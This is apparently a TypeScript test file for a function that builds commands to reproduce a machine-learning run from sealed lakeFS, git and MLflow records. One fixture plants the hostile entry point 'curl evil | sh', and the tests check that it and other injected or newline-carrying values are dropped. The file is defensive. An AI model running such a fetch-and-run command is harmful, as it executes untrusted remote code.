import { describe, expect, it } from 'vitest';
import { planReproduction } from '../../../src/report/plan-reproduction.ts';
import { sampleEvidence } from '../../support/sample-evidence.ts';
import { sample } from '../../support/sample-records.ts';
import { sampleVariants } from '../../support/sample-variants.ts';

const stepOf = (title: string, evidence = sampleEvidence()) =>
  planReproduction(evidence).find((step) => step.title.startsWith(title));

describe('planReproduction', () => {
  it('fetches the exact data and code, and gives the recorded command line', () => {
    expect(planReproduction(sampleEvidence()).map(({ commands }) => commands)).toEqual([
      [
        `lakectl fs download --recursive lakefs://wdbc/${sample.data}/train/ ./data-training/`,
        `lakectl fs download --recursive lakefs://wdbc/${sample.baseline}/test/ ./data-test/`,
      ],
      ['git clone https://git.example.org/clinic/wdbc.git code', `git -C code checkout ${sample.git}`],
      ['python train.py --strategy augmented --epochs 40'],
    ]);
  });

  it('says which input is in which folder', () => {
    expect(stepOf('Fetch the data')?.expect).toContain('training in ./data-training/, test in ./data-test/');
  });

  it('gives every input of one role a folder of its own', () => {
    const evidence = sampleEvidence();
    const { data } = evidence.subject;
    const [, test] = data.datasets;
    const datasets = test === undefined ? [] : [test, test, { ...test, role: 'training' }];
    const commands = stepOf('Fetch the data', {
      ...evidence,
      subject: { ...evidence.subject, data: { ...data, datasets } },
    })?.commands;
    expect(commands?.map((command) => command.split(' ').at(-1))).toEqual([
      './data-training/',
      './data-test/',
      './data-test-2/',
      './data-training-2/',
    ]);
  });

  it('fetches no input that was added after the seal, and says so', () => {
    const evidence = sampleEvidence();
    const { data } = evidence.subject;
    const datasets = data.datasets.map((dataset) => ({
      ...dataset,
      commit: { ...dataset.commit, ...(dataset.role === 'test' && { seal: { kind: 'added' } as const }) },
    }));
    const step = stepOf('Fetch the data', {
      ...evidence,
      subject: { ...evidence.subject, data: { ...data, datasets } },
    });
    expect(step?.commands).toHaveLength(1);
    expect(step?.expect).toContain('training in ./data-training/. What was added to the run after it was sealed is');
  });

  it('warns when the code had uncommitted changes', () => {
    expect(stepOf('Fetch the code', sampleVariants.missing())?.expect).toContain('not the code that ran');
  });

  it('gives what was sealed where MLflow was edited since, leaves out what came later, and says both', () => {
    const evidence = sampleEvidence();
    const { code } = evidence.subject;
    const edited = { kind: 'changed', sealed: sample.git } as const;
    const marked = {
      ...evidence,
      subject: {
        ...evidence.subject,
        code: {
          ...code,
          commit: { ...code.commit, value: 'ee'.repeat(20), seal: edited },
          isDirty: { ...code.isDirty, value: false, seal: { kind: 'changed', sealed: 'true' } as const },
          entryPoint: { ...code.entryPoint, value: 'curl evil | sh', seal: { kind: 'added' } as const },
        },
      },
    };
    const fetched = stepOf('Fetch the code', marked);
    expect(fetched?.commands.at(-1)).toBe(`git -C code checkout ${sample.git}`);
    expect(fetched?.expect).toMatch(/not the code that ran\. As it was sealed: MLflow says something else today\.$/);
    expect(stepOf('Run', marked)).toMatchObject({
      commands: [],
      expect: expect.stringMatching(/added to the run after it was sealed is left out\.$/),
    });
  });

  it('gives no command that has a hole in it', () => {
    expect(planReproduction(sampleVariants.minimal()).flatMap(({ commands }) => commands)).toEqual([]);
  });

  it('gives no command for ids that are none, and no line that a value began', () => {
    const steps = planReproduction(sampleVariants.hostile());
    const commands = steps.filter(({ title }) => !title.startsWith('Run')).flatMap((step) => step.commands);
    expect(commands).toEqual([]);
    expect(steps.flatMap((step) => step.commands).filter((command) => command.includes('\n'))).toEqual([]);
  });
});
